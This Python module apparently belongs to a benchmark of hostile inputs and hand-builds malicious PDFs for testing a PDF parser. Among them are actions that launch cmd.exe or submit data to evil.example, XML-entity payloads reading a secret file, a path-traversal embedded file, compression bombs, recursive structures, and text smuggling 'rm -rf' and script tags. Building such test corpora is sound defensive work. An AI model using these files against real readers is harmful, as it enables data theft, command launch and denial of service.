"""PDFs that mean harm.  Each is written by hand, object by object, for no library would write them."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial

import pikepdf

from benchmarks.hostile.case import SECRET, Case, text

_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 600]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>"
_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_WORDS = (
    b"BT /F 10 Tf 50 500 Td 14 TL "
    + b"(Trust between states does not arise by itself, it takes time.) Tj T* " * 12
    + b"ET"
)


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(data), data)


def written(objects: Mapping[int, bytes], trailer: bytes = b"", *, shift: int = 0) -> bytes:
    """A PDF of these objects; ``shift``: by how much its table of places lies."""
    out, places = io.BytesIO(), {}
    out.write(b"%PDF-1.7\n")
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj %s endobj\n" % (number, body))
    start, size = out.tell(), max(objects) + 1
    out.write(b"xref\n0 %d\n" % size)
    rows = [b"%010d 00000 n \n" % (places[n] + shift) if n in places else b"0000000000 65535 f \n" for n in range(size)]
    out.write(b"".join(rows))
    out.write(b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, start))
    return out.getvalue()


def plain(changed: Mapping[int, bytes] | None = None, contents: bytes = _WORDS, trailer: bytes = b"") -> bytes:
    """A sound page of words, with some of its objects changed or more of them."""
    whole = {1: _CATALOG, 2: _PAGES, 3: _PAGE, 4: stream(contents), 5: _FONT}
    return written({**whole, **(changed or {})}, trailer)


def page(more: bytes) -> bytes:
    return _PAGE[:-2] + more + b">>"


def box(size: bytes) -> bytes:
    return plain({3: _PAGE.replace(b"[0 0 400 600]", size)})


def packed(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def to_unicode(rows: bytes) -> bytes:
    """Words whose font says what its codes mean."""
    cmap = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def\n"
    cmap += b"1 begincodespacerange <00> <FF> endcodespacerange\n%s\nendcmap end end" % rows
    return plain({5: _FONT[:-2] + b"/ToUnicode 6 0 R>>", 6: stream(cmap)})


def _acting() -> Iterator[tuple[str, bytes]]:
    acts = {
        "JavaScript": b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/'\\))>>",
        "Launch": b"<</S/Launch/F(/bin/touch)/Win<</F(cmd.exe)/P(/c x)>>>>",
        "URI": b"<</S/URI/URI(http://evil.example/)>>",
        "SubmitForm": b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>",
        "ImportData": b"<</S/ImportData/F(%s)>>" % SECRET,
        "GoToR": b"<</S/GoToR/F(%s)/D[0/Fit]>>" % SECRET,
        "GoToE": b"<</S/GoToE/F(http://evil.example/x.pdf)/D[0/Fit]>>",
        "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))/OP 0>>",
        "a chain without end": b"<</S/URI/URI(http://evil.example/)/Next 6 0 R>>",
    }
    for name, act in acts.items():
        link = b"<</Type/Annot/Subtype/Link/Rect[0 0 400 600]/A 6 0 R/AA<</E 6 0 R/X 6 0 R>>>>"
        catalog = _CATALOG[:-2] + b"/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript<</Names[(x) 6 0 R]>>>>>>"
        yield f"action {name}", plain({1: catalog, 3: page(b"/Annots[7 0 R]/AA<</O 6 0 R>>"), 6: act, 7: link})


def _loops() -> dict[str, Callable[[], bytes]]:
    return {
        "pages that are their own children": lambda: plain({2: b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"}),
        "two page trees in each other": lambda: plain(
            {2: b"<</Type/Pages/Kids[6 0 R]/Count 9>>", 6: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>"}
        ),
        "a page that is its own parent": lambda: plain({3: _PAGE.replace(b"2 0 R", b"3 0 R")}),
        "a billion pages": lambda: plain({2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"}),
        "a page a million times": lambda: plain(
            {2: b"<</Type/Pages/Kids[" + b"3 0 R " * 1_000_000 + b"]/Count 1000000>>"}
        ),
        "minus one pages": lambda: plain({2: b"<</Type/Pages/Kids[3 0 R]/Count -1>>"}),
        "page trees 100,000 deep": lambda: plain(
            {
                2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>",
                **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(10, 100_010)},
                100_010: _PAGE,
            }
        ),
        "page trees that each have the next twice": lambda: plain(
            {
                2: b"<</Type/Pages/Kids[10 0 R 10 0 R]/Count 1099511627776>>",
                **{n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 2>>" % (n + 1, n + 1) for n in range(10, 50)},
                50: _PAGE,
            }
        ),
        "an outline that is its own next": lambda: plain(
            {
                1: _CATALOG[:-2] + b"/Outlines 6 0 R>>",
                6: b"<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>",
                7: b"<</Title(x)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 7 0 R/Last 7 0 R/Dest[3 0 R/Fit]>>",
            }
        ),
        "names that hold themselves": lambda: plain(
            {1: _CATALOG[:-2] + b"/Names<</Dests 6 0 R>>/Dests 6 0 R>>", 6: b"<</Kids[6 0 R]>>"}
        ),
        "a structure that holds itself": lambda: plain(
            {
                1: _CATALOG[:-2] + b"/StructTreeRoot 6 0 R/MarkInfo<</Marked true>>>>",
                6: b"<</Type/StructTreeRoot/K 7 0 R/ParentTree<</Kids[6 0 R]>>>>",
                7: b"<</S/P/P 7 0 R/K[7 0 R 0]/Pg 3 0 R>>",
            }
        ),
        "a length that is the stream itself": lambda: plain({4: b"<</Length 4 0 R>>stream\nBT ET\nendstream"}),
        "a font that is its own descendant": lambda: plain(
            {5: b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[5 0 R]>>"}
        ),
        "a sign that draws itself": lambda: plain(
            {
                5: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 84/LastChar 84"
                b"/Widths[9]/Encoding<</Differences[84/T]>>/CharProcs<</T 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
                6: stream(b"9 0 d0 BT /F 9 Tf (TTTTTTTT) Tj ET"),
            }
        ),
        "a pattern that paints with itself": lambda: plain(
            {
                3: _PAGE.replace(b"/Font", b"/Pattern<</P 6 0 R>>/Font"),
                6: stream(
                    b"/Pattern cs /P scn 0 0 9 9 re f",
                    b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .0001/YStep .0001"
                    b"/Resources<</Pattern<</P 6 0 R>>>>",
                ),
            },
            _WORDS + b" /Pattern cs /P scn 0 0 400 600 re f",
        ),
        "a mask that masks itself": lambda: plain(
            {
                3: _PAGE.replace(b"/Font", b"/ExtGState<</G 6 0 R>>/Font"),
                6: b"<</SMask<</S/Luminosity/G 7 0 R>>>>",
                7: stream(
                    b"/G gs 0 0 400 600 re f",
                    b"/Type/XObject/Subtype/Form/BBox[0 0 400 600]/Group<</S/Transparency>>"
                    b"/Resources<</ExtGState<</G 6 0 R>>>>",
                ),
            },
            b"/G gs " + _WORDS,
        ),
    }  # fmt: skip


def _sizes() -> dict[str, Callable[[], bytes]]:
    rules = b"".join(b"%d %d m %d %d l S " % (n % 400, n % 600, (n * 7) % 400, n % 600) for n in range(300_000))
    return {
        "a page of a billion points": lambda: box(b"[0 0 1000000000 1000000000]"),
        "a page of 14,400 points": lambda: box(b"[0 0 14400 14400]"),
        "a page without a size": lambda: box(b"[0 0 0 0]"),
        "a page upside down": lambda: box(b"[400 600 -1e30 -1e38]"),
        "a page of names": lambda: box(b"[/a (b) null <<>>]"),
        "a page of NaN": lambda: box(b"[0 0 nan 99999999999999999999999999999999999999999999]"),
        "a unit of a million": lambda: plain({3: page(b"/UserUnit 1000000/Rotate 45")}),
        "a million objects": lambda: plain(dict.fromkeys(range(10, 1000010), b"null")),
        "an object of the number four billion": lambda: plain(trailer=b"/Size 4294967295"),
        "100,000 contents": lambda: plain({3: _PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 100_000 + b"]")}),
        "a million states saved": lambda: plain(contents=b"q " * 1_000_000 + _WORDS),
        "arrays 100,000 deep": lambda: plain(contents=b"[" * 100_000 + _WORDS),
        "dictionaries 100,000 deep": lambda: plain({3: page(b"/X" + b"<</X" * 100_000 + b" 0" + b">>" * 100_000)}),
        "signs at the end of the world": lambda: plain(contents=_WORDS.replace(b"50 500 Td", b"1e38 -1e38 Td")),
        "signs a mile high": lambda: plain(contents=_WORDS.replace(b"/F 10 Tf", b"/F 1e9 Tf")),
        "signs without a height": lambda: plain(contents=_WORDS.replace(b"/F 10 Tf", b"/F 0 Tf")),
        "signs in a matrix of noughts": lambda: plain(contents=b"0 0 0 0 0 0 cm " + _WORDS),
        "300,000 rules": lambda: plain(contents=_WORDS + rules),
        "300,000 boxes": lambda: plain(contents=_WORDS + b"9 9 90 90 re S " * 300_000),
        "300,000 signs in one place": lambda: plain(contents=b"BT /F 9 Tf 50 500 Td " + b"(T) Tj 50 0 Td -50 0 Td " * 300_000 + b"ET"),
        "100,000 words at their places": lambda: plain(
            contents=b"BT /F 1 Tf "
            + b"".join(b"1 0 0 1 %d %d Tm (trust) Tj " % (n % 397, (n * 31) % 599) for n in range(100_000))
            + b"ET"
        ),
        "a line of a million letters": lambda: plain(contents=b"BT /F .001 Tf 9 500 Td (" + b"a" * 1_000_000 + b") Tj ET"),
        "a bomb in a bomb": lambda: plain({4: stream(packed(b"0 " * 2_000_000_0, 3), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")}),
        "1,000 filters": lambda: plain({4: stream(b"00" * 50, b"/Filter[" + b"/ASCIIHexDecode" * 1000 + b"]")}),
        "a picture of 10^10 points": lambda: _picture(b"/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceRGB"),
        "a fax of 10^10 points": lambda: _picture(
            b"/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray"
            b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 100000>>"
        ),
        "a picture of minus points": lambda: _picture(b"/Width -1/Height 99999999999/BitsPerComponent 99/ColorSpace/Nothing"),
        "a predictor of a billion columns": lambda: plain(
            {4: stream(packed(b"x" * 1000), b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1000000000/Colors 99>>")}
        ),
        "a shading of a million steps": lambda: plain(
            {3: _PAGE.replace(b"/Font", b"/Shading<</S 6 0 R>>/Font"),
             6: b"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1e9 0 1e9]/Function 7 0 R>>",
             7: b"<</FunctionType 3/Domain[0 1]/Functions[7 0 R 7 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"},
            _WORDS + b" /S sh",
        ),
    }  # fmt: skip


def _picture(what: bytes) -> bytes:
    head = b"/Type/XObject/Subtype/Image" + what + (b"" if b"Filter" in what else b"/Filter/FlateDecode")
    image = stream(packed(b"\0" * 10_000_000), head)
    return plain(
        {3: _PAGE.replace(b"/Font", b"/XObject<</I 6 0 R>>/Font"), 6: image}, _WORDS + b" q 400 0 0 600 0 0 cm /I Do Q"
    )


def _tables() -> dict[str, Callable[[], bytes]]:
    wide = b"<</Type/XRef/Size 1000000000/W[8 8 8]/Index[0 1000000000]/Root 1 0 R>>"
    return {
        "places that are wrong": lambda: written({1: _CATALOG, 2: _PAGES, 3: _PAGE, 4: stream(_WORDS), 5: _FONT}, shift=7),
        "a table that comes before itself": lambda: _before_itself(),
        "a table of a billion": lambda: plain({9: stream(packed(b"\1" * 240), wide[2:-2] + b"/Filter/FlateDecode")}),
        "no table": lambda: plain().partition(b"xref")[0],
        "no trailer": lambda: plain().partition(b"trailer")[0],
        "no root": lambda: plain().replace(b"/Root 1 0 R", b"/Root 99 0 R"),
        "a root that is a page": lambda: plain().replace(b"/Root 1 0 R", b"/Root 3 0 R"),
        "nothing but its name": lambda: b"%PDF-1.7",
        "ten megabytes behind it": lambda: plain() + b"\0" * 10_000_000,
        "ten megabytes before it": lambda: b"\n" * 10_000_000 + plain(),
        "objects within objects": lambda: plain(
            {6: stream(b"6 0 " * 10_000, b"/Type/ObjStm/N 10000/First 40000/Extends 6 0 R")}, trailer=b"/X 6 0 R"
        ),
        "half of it": lambda: (whole := plain())[: len(whole) // 2],
    }  # fmt: skip


def _before_itself() -> bytes:
    whole = plain()
    start = whole.rindex(b"startxref\n") + 10
    place = whole[start:].split(b"\n")[0]
    return whole.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %s>>" % place)


def _fonts() -> dict[str, Callable[[], bytes]]:
    long = b"0054" * 20_000
    return {
        "ToUnicode: four billion codes": lambda: to_unicode(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"),
        "ToUnicode: 20,000 signs for each": lambda: to_unicode(b"1 beginbfrange <00> <FF> <%s> endbfrange" % long),
        "ToUnicode: nothing that a text may have": lambda: to_unicode(
            b"9 beginbfchar <54> <0000> <72> <D800> <75> <FFFF> <73> <202E> <74> <001B> <20> <000A> <62> <2028> <65> <FDD0>"
            b" <6E> <DBFFDFFD> endbfchar"
        ),
        "ToUnicode: itself": lambda: plain({5: _FONT[:-2] + b"/ToUnicode 6 0 R>>", 6: stream(b"/X usecmap", b"/UseCMap 6 0 R/CMapName/X")}),
        "ToUnicode: no end": lambda: to_unicode(b"100000 beginbfchar " + b"<54> <0054> " * 100_000),
        "ToUnicode: a bomb": lambda: plain(
            {5: _FONT[:-2] + b"/ToUnicode 6 0 R>>", 6: stream(packed(b"<54> <0054> " * 30_000_000), b"/Filter/FlateDecode")}
        ),
        "a program that is no font": lambda: plain(
            {5: _FONT[:-2] + b"/FontDescriptor 6 0 R>>", 6: b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>",
             7: stream(b"\0\1\0\0" + b"\xff" * 100_000)}
        ),
        "widths without end": lambda: plain({5: _FONT[:-2] + b"/FirstChar 0/LastChar 2000000000/Widths[" + b"1e38 " * 100_000 + b"]>>"}),
        "names of signs": lambda: plain({5: _FONT[:-2] + b"/Encoding<</Differences[0 " + b"/uniD800/u110000/g99999999999999999999" * 200 + b"]>>>>"}),
    }  # fmt: skip


def _locked(user: str) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        pdf.save(made, encryption=pikepdf.Encryption(owner="o", user=user))
    return made.getvalue()


def _others() -> dict[str, Callable[[], bytes]]:
    title = b"\x1b[31m\\000\\n<script>alert\\(1\\)</script>" + b"A" * 100_000
    return {
        "under a password": lambda: _locked("secret"),
        "under no password": lambda: _locked(""),
        "under a lock that nobody has": lambda: plain(trailer=b"/Encrypt<</Filter/Nobody/V 99/R 99/O(x)/U(y)/P -1>>/ID[(a)(b)]"),
        "a stream that stands in a file": lambda: plain({4: stream(b"", b"/F(%s)/FFilter/None" % SECRET)}),
        "a stream that stands in the net": lambda: plain({4: stream(b"", b"/F<</FS/URL/F(http://evil.example/x)>>")}),
        "a form that stands in another file": lambda: plain(
            {3: _PAGE.replace(b"/Font", b"/XObject<</X 6 0 R>>/Font"),
             6: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%s)/Page 0>>" % SECRET)},
            _WORDS + b" /X Do",
        ),
        "a file within it that leads out": lambda: plain(
            {1: _CATALOG[:-2] + b"/Names<</EmbeddedFiles<</Names[(x) 6 0 R]>>>>>>",
             6: b"<</Type/Filespec/F(../../../../tmp/evil)/UF(/etc/passwd)/EF<</F 7 0 R>>>>", 7: stream(b"x", b"/Type/EmbeddedFile")}
        ),
        "a form of XFA": lambda: plain(
            {1: _CATALOG[:-2] + b"/AcroForm<</XFA 6 0 R/Fields[6 0 R]>>>>",
             6: stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><xdp>&e;</xdp>' % SECRET)}
        ),
        "metadata with entities": lambda: plain(
            {1: _CATALOG[:-2] + b"/Metadata 6 0 R>>",
             6: stream(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file://%s">]><x>&e;</x>' % SECRET, b"/Type/Metadata/Subtype/XML")}
        ),
        "a title that moves the cursor": lambda: plain({8: b"<</Title(" + title + b")>>"}, trailer=b"/Info 8 0 R"),
        "words that command": lambda: plain(contents=_WORDS.replace(b"states", b"\\033[2J\\007`rm -rf`$\\(x\\)")),
    }  # fmt: skip


def cases() -> Iterator[Case]:
    for group in (_loops, _sizes, _tables, _fonts, _others):
        for name, make in group().items():
            yield text(name, make, "pdf")
    for name, data in _acting():
        yield text(name, partial(bytes, data), "pdf")
